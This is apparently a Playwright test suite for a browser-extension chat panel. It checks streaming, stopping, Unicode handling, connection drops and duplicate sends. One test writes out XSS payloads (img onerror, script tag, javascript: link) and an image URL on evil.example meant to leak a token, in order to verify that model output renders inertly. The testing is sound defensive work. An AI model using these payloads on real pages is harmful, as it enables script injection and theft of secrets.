import { expect, test } from './fixtures';
import { ask, lastAnswer, openSignedInPanel } from './session';

const REPLY =
  'Light is fast. Grüße aus Köln, 你好世界, and a rocket 🚀 over the globe 🌍. The end.';

test('an answer streams: partial text shows before the gateway sends the last chunk', async ({
  extensionContext,
  openExtensionPage,
  gateway,
}) => {
  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
  gateway.control.setReply(REPLY);
  gateway.control.setPace(60);
  await ask(panel, 'How fast is light?');

  const answer = lastAnswer(panel);
  await expect(answer.locator('.markdown')).toContainText('Light is fast.');
  const chat = gateway.control.requests().find((r) => r.path === '/oauth2/v1/chat/completions');
  expect(chat?.finishedAt ?? null).toBeNull();

  await expect(answer.locator('.markdown')).toHaveText(REPLY);
  await expect(panel.getByRole('button', { name: 'Regenerate' })).toBeVisible();
  const sent = chat?.body as {
    model: string;
    stream: boolean;
    messages: Array<{ role: string }>;
    max_tokens?: number;
  };
  expect(sent.stream).toBe(true);
  expect(sent.max_tokens).toBe(8000); // the chat ceiling: generous, for reasoning models
  expect(sent.messages.at(-1)).toEqual({ role: 'user', content: 'How fast is light?' });
});

test('Stop keeps what arrived and the gateway sees the request aborted', async ({
  extensionContext,
  openExtensionPage,
  gateway,
}) => {
  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
  gateway.control.setReply(REPLY.repeat(20));
  gateway.control.setPace(40);
  await ask(panel, 'Tell me a long story');
  await expect(lastAnswer(panel).locator('.markdown')).toContainText('Light is fast.');

  await panel.getByRole('button', { name: 'Stop' }).click();
  await expect(lastAnswer(panel)).toContainText('Stopped.');
  const partial = await lastAnswer(panel).locator('.markdown').innerText();
  expect(partial.length).toBeGreaterThan(0);
  expect(partial.length).toBeLessThan(REPLY.length * 20);
  await expect
    .poll(
      () =>
        gateway.control.requests().find((r) => r.path === '/oauth2/v1/chat/completions')?.aborted,
    )
    .toBe(true);
});

test('multi-byte characters split across network chunks arrive intact', async ({
  extensionContext,
  openExtensionPage,
  gateway,
}) => {
  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
  const text = '🚀🌍👩‍🚀 你好世界 こんにちは Grüße ñandú Ωμέγα 🎉'.repeat(5);
  gateway.control.setReply(text);
  await ask(panel, 'Say hello in many scripts');
  await expect(lastAnswer(panel).locator('.markdown')).toHaveText(text);
});

test('a dropped connection keeps the partial answer, says so, and Retry completes it', async ({
  extensionContext,
  openExtensionPage,
  gateway,
}) => {
  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
  gateway.control.setReply(REPLY);
  // Paced, as a real stream is: Chromium may drop bytes that arrive together with the reset.
  gateway.control.setPace(30);
  gateway.control.injectFault({
    kind: 'drop-after-chunks',
    chunks: 6,
    path: '/oauth2/v1/chat/completions',
  });
  await ask(panel, 'Explain light');

  const answer = lastAnswer(panel);
  await expect(answer.getByRole('alert')).toContainText(
    'The connection was lost in the middle of the answer',
  );
  // What arrived before the drop stays on screen (rendered on the next frame).
  await expect(answer.locator('.markdown')).toHaveText(/\S/);
  const partial = await answer.locator('.markdown').innerText();
  expect(REPLY.startsWith(partial.trim())).toBe(true);
  expect(partial.trim().length).toBeLessThan(REPLY.length);

  await answer.getByRole('button', { name: 'Retry' }).click();
  await expect(answer.locator('.markdown')).toHaveText(REPLY);
  await expect(answer.getByRole('alert')).toHaveCount(0);
});

test('hostile model output is shown as text: nothing runs, nothing loads', async ({
  extensionContext,
  openExtensionPage,
  gateway,
}) => {
  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
  const requested: string[] = [];
  extensionContext.on('request', (request) => requested.push(request.url()));
  let dialogs = 0;
  panel.on('dialog', (dialog) => {
    dialogs++;
    void dialog.dismiss();
  });
  gateway.control.setReply(
    [
      'Here: <img src=x onerror="alert(1)"> and <script>alert(2)</script>',
      '',
      '[click me](javascript:alert(3))',
      '',
      '![leak](https://evil.example/pixel.png?secret=token)',
    ].join('\n'),
  );
  await ask(panel, 'Show me something');

  const markdown = lastAnswer(panel).locator('.markdown');
  await expect(markdown).toContainText('<img src=x onerror="alert(1)">');
  await expect(markdown).toContainText('<script>alert(2)</script>');
  await expect(markdown).toContainText('[click me](javascript:alert(3))');
  await expect(markdown).toContainText('[image: leak]');
  await expect(markdown.locator('img, script')).toHaveCount(0);
  await expect(markdown.locator('a[href^="javascript:"]')).toHaveCount(0);
  await expect(
    markdown.locator('a[href="https://evil.example/pixel.png?secret=token"]'),
  ).toHaveAttribute('rel', 'noopener noreferrer');
  await panel.waitForTimeout(300); // let any stray load or script run, so its absence means something
  expect(dialogs).toBe(0);
  expect(requested.filter((url) => url.includes('evil.example'))).toEqual([]);
});

test('Enter pressed twice in a row sends the question once', async ({
  extensionContext,
  openExtensionPage,
  gateway,
}) => {
  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
  gateway.control.setReply('Once.');
  const box = panel.getByRole('textbox', { name: 'Your question' });
  await box.fill('Only once, please');
  // Both presses in one task: the second lands before the first question can have been stored.
  await box.evaluate((element) => {
    for (let press = 0; press < 2; press++)
      element.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
  });
  await expect(lastAnswer(panel).locator('.markdown')).toHaveText('Once.');
  await expect(panel.getByRole('button', { name: 'Regenerate' })).toBeVisible();
  await expect(box).toHaveValue('');

  const log = panel.getByRole('log');
  await expect(log.getByRole('article', { name: 'Your question' })).toHaveCount(1);
  await expect(log.getByRole('article', { name: 'Answer' })).toHaveCount(1);
  const chats = gateway.control
    .requests()
    .filter((request) => request.path === '/oauth2/v1/chat/completions');
  expect(chats).toHaveLength(1);
  const sent = chats[0]?.body as { messages: Array<{ role: string; content: unknown }> };
  expect(sent.messages.filter((message) => message.role === 'user')).toEqual([
    { role: 'user', content: 'Only once, please' },
  ]);
});

test('a double-click on Send asks once and does not stop the answer with its second click', async ({
  extensionContext,
  openExtensionPage,
  gateway,
}) => {
  const panel = await openSignedInPanel(extensionContext, openExtensionPage);
  gateway.control.setReply(REPLY);
  gateway.control.setPace(40);
  await panel.getByRole('textbox', { name: 'Your question' }).fill('How fast is light?');
  const send = await panel.getByRole('button', { name: 'Send' }).boundingBox();
  if (!send) throw new Error('no Send button');
  await panel.mouse.click(send.x + send.width / 2, send.y + send.height / 2);
  // Stop has taken Send's place; the double-click's second click (click count 2) lands on it.
  const stop = await panel.getByRole('button', { name: 'Stop' }).boundingBox();
  if (!stop) throw new Error('no Stop button');
  await panel.mouse.move(stop.x + stop.width / 2, stop.y + stop.height / 2);
  await panel.mouse.down({ clickCount: 2 });
  await panel.mouse.up({ clickCount: 2 });

  await expect(lastAnswer(panel).locator('.markdown')).toHaveText(REPLY);
  await expect(lastAnswer(panel)).not.toContainText('Stopped.');
  const chats = gateway.control
    .requests()
    .filter((request) => request.path === '/oauth2/v1/chat/completions');
  expect(chats).toHaveLength(1);
  expect(chats[0]?.aborted).toBeFalsy();
});
